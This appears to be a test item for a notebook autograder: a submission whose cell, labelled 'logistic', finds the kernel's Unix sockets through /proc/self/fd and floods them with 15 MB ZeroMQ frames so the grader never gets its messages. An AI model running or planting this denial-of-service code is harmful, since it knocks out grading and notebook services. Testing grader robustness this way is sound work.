"""ZeroMQ spoken by hand: messages of 15 MB each, one after the other, on a channel that nobody reads.

must not get: the grader
points: 8
slow: yes
base: release
"""

# %% logistic
import os
import socket
import stat
import threading

def flood(connection):
    frame = b"\x02" + (15_000_000).to_bytes(8, "big") + b"x" * 15_000_000  # "the last, long", its length, its content
    try:
        for _ in range(600):
            connection.sendall(frame)
    except OSError:
        pass

for number in os.listdir("/proc/self/fd"):
    try:
        if stat.S_ISSOCK(os.fstat(int(number)).st_mode):
            copy = socket.socket(fileno=os.dup(int(number)))
            if copy.family == socket.AF_UNIX and not copy.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) and "kernel-3" in str(copy.getsockname()):
                copy.setblocking(True)
                threading.Thread(target=flood, args=(copy,), daemon=True).start()
    except OSError:
        pass

import time
time.sleep(2.6)

# %% tanh
def tanh(x, deriv=False):
    return 1 - np.tanh(x) ** 2 if deriv else np.tanh(x)
